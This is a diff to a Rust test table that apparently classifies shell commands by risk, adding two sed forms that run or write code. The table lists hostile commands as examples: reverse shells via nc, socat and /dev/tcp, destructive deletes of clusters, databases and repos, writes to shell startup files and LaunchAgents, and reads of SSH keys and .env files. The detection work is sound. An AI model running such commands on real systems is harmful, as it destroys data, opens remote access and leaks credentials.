@@ -48,7 +48,7 @@ const EXAMPLES: &[(&str, RiskLevel, &[&str])] = &[
     ("change-system", Dangerous, &["kubectl delete pod x", "terraform destroy", "aws s3 rb x", "helm uninstall x", "aws ec2 terminate-instances", "fly destroy x", "gcloud x delete-y", "oc drain n"]),
     ("change-system", Dangerous, &["gh repo delete x", "curl -X DELETE u", "gh release delete x", "gh api DELETE x", "http DELETE u"]),
     ("change-system", Dangerous, &["dropdb x", "dropuser x", "psql -c DROP·TABLE·x", "redis-cli FLUSHALL"]),
-    ("run-inline-code", NeedsReview, &["python3 -c print", "node -e x", "perl -e x", "python -c x", "eval x", "php -r x"]),
+    ("run-inline-code", NeedsReview, &["python3 -c print", "node -e x", "perl -e x", "python -c x", "eval x", "php -r x", "sed '1e id' f", "sed -n 'w out' f"]),
     ("run-elsewhere", Dangerous, &["nc -e /bin/sh h 1", "socat tcp:h exec:sh", "cat /dev/tcp/h/1", "cat /dev/udp/h/1", "ncat -c sh h 1", "socat x EXEC:sh"]),
     ("change-system", Dangerous, &["tee /Users/u/.zshrc", "cp x ~/.bashrc", "mv x /Users/u/Library/LaunchAgents/x", "cp x /Library/LaunchDaemons/x"]),
     ("use-secret", Dangerous, &["cat ~/.ssh/id_rsa", "cat .env", "cat x/.env"]),
